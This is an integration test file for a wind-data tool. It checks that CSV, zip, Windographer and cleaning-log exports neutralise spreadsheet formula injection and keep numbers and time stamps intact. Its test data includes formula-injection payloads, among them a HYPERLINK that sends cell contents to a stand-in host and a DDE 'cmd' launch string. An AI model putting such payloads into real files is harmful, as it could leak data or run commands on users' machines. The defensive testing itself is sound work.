"""Exports and cleaning logs opened in a spreadsheet run no formula (CSV injection).

A station whose name, channel names and flag notes start with each character a spreadsheet
reads as a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return) is exported as CSV, zip
and Windographer text, and its flags as brightwind and Windographer cleaning logs. Every text
cell of those files is read back from the bytes: each such cell carries the ``'`` that makes it
text, numbers (negative ones too) and time stamps are untouched, and the cleaning logs import
back to the same flags and notes.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta

import pyarrow.parquet as pq
import pytest

from core import cleaning_log, db, exports, flags, ingest, metadata
from core.exports import ExportRequest
from core.spreadsheet import FORMULA_STARTS, is_formula_like

pytestmark = pytest.mark.integration

STATION = '=HYPERLINK("http://evil.example/?"&A1)\t@Mast\r\n-2+3'
DANGEROUS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
NOTES = ["=HYPERLINK(\"http://evil.example\")", "+1+1", "-1+1", "@SUM(1)", "\t=1+1 tab", "\r=1+1 cr"]
T0 = datetime(2025, 1, 1, tzinfo=UTC)
VALUES = [-3.2, -999.0, 4.5, -0.001]


def make_station(conn, name: str = STATION, columns: list[str] = DANGEROUS, readings: bool = True) -> dict[str, int]:
    """A station with the dangerous channels and T2m (mapped), each with ``VALUES`` from ``T0``."""
    with conn.transaction():
        st = ingest.ensure_station(conn, name, "test")
        for c in [*columns, "T2m"]:
            db.fetch_one(conn, "upsert_channel", station_id=st["id"], column_name=c, statistic="unknown", unit="")
        metadata.apply_conventions(conn, st["id"], "test")
        ids = {r["column_name"]: r["id"] for r in conn.execute(
            "SELECT column_name, id FROM channel WHERE station_id = %s", (st["id"],)).fetchall()}
        if readings:
            fid = conn.execute("INSERT INTO source_file (sha256, original_name, size_bytes, station_id, status) "
                               "VALUES (repeat('b', 64), 'synthetic', 0, %s, 'imported') RETURNING id",
                               (st["id"],)).fetchone()["id"]
            for cid in ids.values():
                for k, v in enumerate(VALUES):
                    conn.execute("INSERT INTO reading (channel_id, time, value, source_file_id) "
                                 "VALUES (%s, %s, %s, %s)", (cid, T0 + timedelta(minutes=10 * k), v, fid))
    return ids


def export(conn, fmt: str, **kw) -> dict:
    ids = make_station(conn)
    req = ExportRequest(STATION, fmt, channel_ids=tuple(ids.values()), calibrated=False, exclude_categories=(), **kw)
    row = exports.request_export(conn, req, "ana")
    if row["status"] == "queued":
        row = exports.build_export(row["id"])
    assert row["status"] == "done", row["error"]
    return row


def cells(raw: bytes, delimiter: str) -> list[list[str]]:
    """Every row of a delimited text file, as a spreadsheet splits it (quotes honoured)."""
    return list(csv.reader(io.StringIO(raw.decode("utf-8"), newline=""), delimiter=delimiter))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would read as a formula: text cells that start so carry a ' first."""
    bad = [cell for row in rows for cell in row if is_formula_like(cell)]
    assert bad == []


def assert_table(raw: bytes, delimiter: str, names: list[str]) -> None:
    """The table's header neutralises each dangerous name; the values stay plain numbers."""
    rows = cells(raw, delimiter)
    assert_no_formula(rows)
    head = next(i for i, r in enumerate(rows) if r and r[0] in ("Timestamp", "Date/Time"))
    header, body = rows[head], rows[head + 1:]
    assert sorted(header[1:]) == sorted("'" + n if n.startswith(FORMULA_STARTS) else n for n in names)
    for n in names:
        if n.startswith(FORMULA_STARTS):
            quoted = '"\'' + n + '"'
            assert quoted.encode() in raw  # prefixed and quoted, as OWASP says
    numbers = [[float(c) for c in r[1:]] for r in body]
    assert [r[0] for r in numbers] == VALUES  # -3.2 and -999 are numbers, written as such
    text = raw.decode()
    assert f"{delimiter}-3.2" in text and f"{delimiter}-999" in text
    assert "'-3.2" not in text and "'-999" not in text
    assert [r[0][:2] for r in body] == ["20"] * len(VALUES)  # time stamps as they were


@pytest.mark.parametrize("headers", ["logger", "descriptive"])
def test_csv_export_neutralises_dangerous_headers_and_keeps_numbers(conn, headers):
    row = export(conn, "csv", headers=headers)
    raw = exports.export_file(row).read_bytes()
    assert_table(raw, ",", [*DANGEROUS, "T2m" if headers == "logger" else "Temperature 2 m Avg"])
    # the provenance keeps the names themselves, and says how text files write them
    prov = json.loads(exports.provenance_file(row).read_text())
    by_name = {c["column_name"]: c for c in prov["headers"]["columns"]}
    for n in DANGEROUS:
        assert by_name[n]["header"] == n and by_name[n]["text_header"] == "'" + n
    assert prov["station"]["name"] == STATION and "'" in prov["headers"]["text_rule"]


def test_zip_export_neutralises_each_csv(conn):
    row = export(conn, "zip", headers="logger")
    with zipfile.ZipFile(exports.export_file(row)) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    assert_table(parts[next(n for n in parts if n.endswith("_unknown.csv"))], ",", DANGEROUS)
    assert_table(parts[next(n for n in parts if n.endswith("_air_temperature.csv"))], ",", ["T2m"])


def test_windographer_export_neutralises_headers_and_the_site_name(conn):
    row = export(conn, "windographer", headers="logger")
    raw = exports.export_file(row).read_bytes()
    assert_table(raw, "\t", [*DANGEROUS, "T2m"])
    lines = raw.decode().split("\r\n")
    site = [ln for ln in lines if ln.startswith("Site = ")]
    # the name's tab and line breaks would start new cells and lines: they become spaces
    assert site == ['Site = =HYPERLINK("http://evil.example/?"&A1) @Mast -2+3']
    assert raw.count(b"\r\n") == raw.count(b"\n")


def test_parquet_keeps_the_names_themselves(conn):
    """Parquet columns are typed: no reader turns a column name into a formula."""
    row = export(conn, "parquet", headers="logger")
    assert set(DANGEROUS) <= set(pq.read_schema(exports.export_file(row)).names)


# --- cleaning logs ------------------------------------------------------------------------------


def add_flags(conn, columns: list[str]) -> None:
    named = {r["column_name"]: r["id"] for r in conn.execute(
        "SELECT c.column_name, c.id FROM channel c JOIN station s ON s.id = c.station_id WHERE s.name = %s",
        (STATION,)).fetchall()}
    ids = [named[c] for c in columns]
    for k, note in enumerate(NOTES):
        start = T0 + timedelta(hours=k)
        flags.add_flag(conn, STATION, [ids[k % len(ids)]], start, start + timedelta(minutes=30), "other", note, "ana")
        flags.add_flag(conn, STATION, [ids[k % len(ids)]], start, start + timedelta(minutes=20), "icing", note, "ana")
    flags.add_flag(conn, STATION, "station", T0, T0 + timedelta(days=1), "other", "-- whole mast --", "ana")


def flag_set(conn, station: str) -> set[tuple]:
    """The station's live flags as comparable tuples. Cleaning logs do not keep the white space
    around a note (as before): the tab and carriage-return notes come back without it."""
    return {(frozenset(r["columns"]), r["start_time"], r["end_time"], r["category"], r["note"].strip())
            for r in flags.list_flags(conn, station)}


@pytest.mark.parametrize(("fmt", "columns"), [
    ("brightwind", DANGEROUS),
    ("windographer", DANGEROUS[:4]),  # a tab or line break cannot be in a tab-separated line
])
def test_cleaning_logs_neutralise_sensors_and_reasons_and_import_back(conn, fmt, columns):
    make_station(conn, columns=columns, readings=False)
    add_flags(conn, columns)
    warnings: list[str] = []
    text = cleaning_log.export_flags(conn, STATION, fmt, warnings=warnings)
    rows = cells(text.encode(), "," if fmt == "brightwind" else "\t")
    assert_no_formula(rows)
    sensor = [r[0] for r in rows[1:]]
    reason = [r[3] if fmt == "brightwind" else r[1] for r in rows[1:]]
    assert {s for s in sensor if s != "All"} == {"'" + c for c in columns} | (
        set() if fmt == "brightwind" else {"T2m"})
    # a note that starts like a formula is written after its category: text, and read back whole
    assert {"other: " + n.strip() for n in NOTES} | {"icing: " + n.strip() for n in NOTES} <= set(reason)
    assert any("spreadsheets" in w for w in warnings)  # brightwind and Windographer will not match them
    # importing our file gives the same flags, names and notes
    make_station(conn, name="Copy Mast", columns=columns, readings=False)
    result = cleaning_log.import_flags(conn, "Copy Mast", text, fmt, "ben")
    assert result["unmatched"] == []
    assert flag_set(conn, "Copy Mast") == flag_set(conn, STATION)
    assert {r["note"] for r in flags.list_flags(conn, "Copy Mast")} >= set(NOTES[:4])  # exactly


def test_cleaning_logs_of_other_tools_keep_their_reasons_and_sensors(conn):
    """Reasons are read as written (we never quote them). A sensor loses a leading quote only
    when it is one we would write — the name with the quote matches no channel, the name
    without it does (such a line matched nothing before); any other sensor is read as before."""
    make_station(conn, columns=["=cmd", "'=lit"], readings=False)
    text = ("Sensor,Start,Stop,Reason\n"
            "'=lit,2025-01-01 00:00,2025-01-01 01:00,'=as written\n"  # a channel named so: itself
            "'T2m,2025-01-01 01:00,2025-01-01 02:00,=note\n"  # a quote before a plain name: no channel
            "=cmd,2025-01-01 02:00,2025-01-01 03:00,'+quoted\n"
            "'=cmd,2025-01-01 03:00,2025-01-01 04:00,other: '-x\n")
    result = cleaning_log.import_flags(conn, STATION, text, "brightwind", "ana")
    assert result["unmatched"] == ["'T2m"]
    got = sorted((sorted(r["columns"]), r["category"], r["note"]) for r in flags.list_flags(conn, STATION))
    assert got == [(["'=lit"], "other", "'=as written"), (["=cmd"], "other", "'+quoted"),
                   (["=cmd"], "other", "'-x")]
